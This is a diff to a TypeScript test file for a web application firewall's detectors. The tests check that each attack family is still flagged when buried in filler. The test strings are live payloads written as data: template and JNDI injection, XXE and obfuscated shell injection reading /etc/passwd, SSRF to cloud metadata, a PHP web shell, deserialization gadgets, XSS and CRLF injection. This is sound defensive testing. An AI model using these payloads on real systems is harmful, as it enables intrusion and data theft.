@@ -1,7 +1,12 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { detectJndi } from '../../../../src/guard/decide/waf/detect/jndi/jndi.ts';
-import { detectTemplate } from '../../../../src/guard/decide/waf/detect/template/template.ts';
+import type { Sought } from '../../../../src/guard/decide/waf/inspect/searches.ts';
+import { searches } from '../../../../src/guard/decide/waf/inspect/searches.ts';
+
+const caught = (sought: Sought, text: string): void => {
+  const score = searches.get(sought)!.detect(text)?.score ?? 0;
+  assert.ok(score >= 50, `${sought}: ${text.slice(0, 40)}…${text.slice(-40)}: ${score}`);
+};
 
 /** As much of it as takes every bound of what is read at once. */
 const times = [1, 30, 150, 3_000];
@@ -18,10 +23,8 @@ test('an expression of a template counts behind ever so much that stands in fron
       `${'<%a '.repeat(n)}<%= system('id') %>`,
       `${'$a.b '.repeat(n)}$x.getClass().forName('java.lang.Runtime').getRuntime().exec('id')`,
       `${'{a '.repeat(n)}{system('id')}`,
-    ]) {
-      const found = detectTemplate(text);
-      assert.ok(found !== null && found.score >= 50, `${n}: ${text.slice(-60)}: ${found?.score}`);
-    }
+    ])
+      caught('template', text);
 });
 
 test('a look-up counts however deep it lies', () => {
@@ -30,5 +33,34 @@ test('a look-up counts however deep it lies', () => {
       `\${${'${lower:'.repeat(n)}j${'}'.repeat(n)}ndi:ldap://e.example/a}`,
       `${'${a:-'.repeat(n)}\${jndi:ldap://e.example/a}${'}'.repeat(n)}`,
     ])
-      assert.ok((detectJndi(text)?.score ?? 0) >= 50, `${n}: ${text.slice(0, 40)}`);
+      caught('jndi', text);
+});
+
+const entity = '<!ENTITY x SYSTEM "file:///etc/passwd">';
+const behind: readonly (readonly [Sought, (n: number) => string])[] = [
+  ['xxe', (n) => `${'<!-- <!DOCTYPE a> -->'.repeat(n)}<!DOCTYPE a [${entity}]>`],
+  ['xxe', (n) => `<!DOCTYPE a [${'<!ELEMENT a ANY>'.repeat(n)}${entity}]>`],
+  ['ssi', (n) => `${'<a>'.repeat(n)}<!--#exec cmd="id"-->`],
+  ['mail', (n) => `x\n${' a\n'.repeat(n)}Bcc: c@d.example`],
+  ['mail', (n) => `x\n${'X-A: b\n'.repeat(n)}Bcc: c@d.example`],
+  ['crlf', (n) => `x${'\r\n a'.repeat(n)}\r\nSet-Cookie: a=b`],
+  ['crlf', (n) => `${'\r\nA: b'.repeat(n)}\r\nSet-Cookie: a=b`],
+  ['crlf', (n) => `${'a b\r\n'.repeat(n)}HTTP/1.1 200 OK\r\n\r\n<script>`],
+  ['prototype', (n) => `{"a":[${'"__proto__x",'.repeat(n)}1],"__proto__":{"x":1}}`],
+  ['prototype', (n) => `{"a":"${'x'.repeat(4 * n)}","constructor":{"prototype":{"x":1}}}`],
+  ['xpath', (n) => `${'a/'.repeat(n)}'] | //user/* | a['`],
+  ['deserialization', (n) => `{"a":"${'x'.repeat(n)}","b":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}`],
+  ['deserialization', (n) => `{${'"a":1,'.repeat(n)}"b":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}`],
+  ['deserialization', (n) => `<a>${'<b/>'.repeat(n)}<java.lang.ProcessBuilder>`],
+  ['code', (n) => `${"print('a');".repeat(n)}system('id');`],
+  ['code', (n) => `${'<?php a ?>'.repeat(n)}<?php $_GET[a]($_GET[b]); ?>`],
+  ['xss', (n) => `<img ${'a=b '.repeat(n)}src=x onerror=alert(1)>`],
+  ['ssrf', (n) => `http://${'a'.repeat(n)}@169.254.169.254/`],
+  ['shell', (n) => `;c${"''".repeat(n)}at /etc/passwd`],
+  ['shell', (n) => `;/${'./'.repeat(n)}bin/cat /etc/passwd`],
+  ['shell', (n) => `;cat ${'"" '.repeat(n)}/etc/passwd`],
+];
+
+test('what is an attack is one behind ever so much filler, in every family', () => {
+  for (const n of times) for (const [sought, text] of behind) caught(sought, text(n));
 });
